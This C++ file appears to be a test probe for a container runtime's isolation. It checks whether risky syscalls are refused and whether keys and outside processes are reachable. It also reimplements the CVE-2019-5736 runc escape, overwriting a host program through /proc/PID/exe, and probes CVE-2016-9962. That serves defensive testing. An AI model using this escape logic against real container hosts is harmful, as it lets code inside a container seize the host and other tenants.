// An attacker's program inside a container: static, so that it runs in any root file system.
//   calls            system calls that must be refused: "NAME ERRNO" each
//   key NAME         is the user's key NAME reachable from here?  "found" or "hidden"
//   grab SECONDS     opens the program files of others and overwrites them when it can: "wrote" or the reason
//   peek SECONDS     tries to look into processes that are not the container's own: "NAME" of each it could
//   user             the effective user id
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

namespace {

void tell(const char* name, long result) {
  printf("%s %s\n", name, result >= 0 ? "allowed" : strerrorname_np(errno));
}

int try_calls() {
  tell("socket AF_ALG", socket(AF_ALG, SOCK_SEQPACKET, 0));
  tell("socket AF_VSOCK", socket(AF_VSOCK, SOCK_STREAM, 0));
  tell("unshare user", unshare(CLONE_NEWUSER));
  tell("unshare mount", unshare(CLONE_NEWNS));
  tell("clone user", syscall(SYS_clone, CLONE_NEWUSER | 17, 0, 0, 0, 0));
  tell("clone3", syscall(SYS_clone3, nullptr, 0));
  tell("setns", setns(0, 0));
  tell("mount", mount("x", "/tmp", "tmpfs", 0, nullptr));
  tell("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  tell("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 0));
  tell("open_by_handle_at", syscall(SYS_open_by_handle_at, 0, nullptr, 0));
  tell("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, -3, 0));
  tell("add_key", syscall(SYS_add_key, "user", "x", "x", 1, -3));
  tell("bpf", syscall(SYS_bpf, 0, nullptr, 0));
  tell("io_uring_setup", syscall(SYS_io_uring_setup, 1, nullptr));
  tell("userfaultfd", syscall(SYS_userfaultfd, 0));
  tell("kexec_load", syscall(SYS_kexec_load, 0, 0, nullptr, 0));
  tell("init_module", syscall(SYS_init_module, nullptr, 0, ""));
  tell("reboot", syscall(SYS_reboot, 0, 0, 0, nullptr));
  tell("perf_event_open", syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0));
  return 0;
}

int find_key(const char* name) {
  bool found = false;
  // The session's keyring, and a search through all keyrings of the process.
  found = found || syscall(SYS_keyctl, KEYCTL_SEARCH, -3, "user", name, 0) >= 0;
  found = found || syscall(SYS_request_key, "user", name, nullptr, 0) >= 0;
  puts(found ? "found" : "hidden");
  return 0;
}

bool is_ours(const char* path) {
  char target[4096];
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n < 0) return true;
  target[n] = '\0';
  return strcmp(target, "/bin/busybox") == 0 || strcmp(target, "/probe") == 0;
}

// A descriptor of a program that is not the container's own.
int open_foreign_program() {
  DIR* processes = opendir("/proc");
  int found = -1;
  while (dirent* entry = found < 0 ? readdir(processes) : nullptr) {
    if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    if (!is_ours(path)) found = open(path, O_RDONLY | O_CLOEXEC);
  }
  closedir(processes);
  return found;
}

// CVE-2019-5736: the file cannot be written while it runs, so it is kept open and written afterward. Truncates it,
// so that a read-only mount fails before the busy program does.
const char* overwrite(int program) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", program);
  for (int i = 0; i < 10000; ++i) {
    int target = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (target < 0 && errno == ETXTBSY) {
      usleep(100);
      continue;
    }
    if (target < 0) return strerrorname_np(errno);
    return write(target, "overwritten", 11) == 11 ? "wrote" : strerrorname_np(errno);
  }
  return "ETXTBSY";
}

int grab(int seconds) {
  time_t end = time(nullptr) + seconds;
  int seen = 0;
  while (time(nullptr) < end) {
    int program = open_foreign_program();
    if (program < 0) continue;
    ++seen;
    puts(overwrite(program));
    fflush(stdout);
    close(program);
    if (seen == 3) return 0;
  }
  puts("over");
  return 0;
}

// CVE-2016-9962: inspects a process that is about to become a command of the container.
int peek(int seconds) {
  time_t end = time(nullptr) + seconds;
  while (time(nullptr) < end) {
    int program = open_foreign_program();
    if (program < 0) continue;
    puts("seen");
    fflush(stdout);
    close(program);
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 2 && strcmp(argv[1], "calls") == 0) return try_calls();
  if (argc == 3 && strcmp(argv[1], "key") == 0) return find_key(argv[2]);
  if (argc == 3 && strcmp(argv[1], "grab") == 0) return grab(atoi(argv[2]));
  if (argc == 3 && strcmp(argv[1], "peek") == 0) return peek(atoi(argv[2]));
  if (argc == 2 && strcmp(argv[1], "user") == 0) return printf("%u\n", geteuid()) < 0 ? 1 : 0;
  return 2;
}
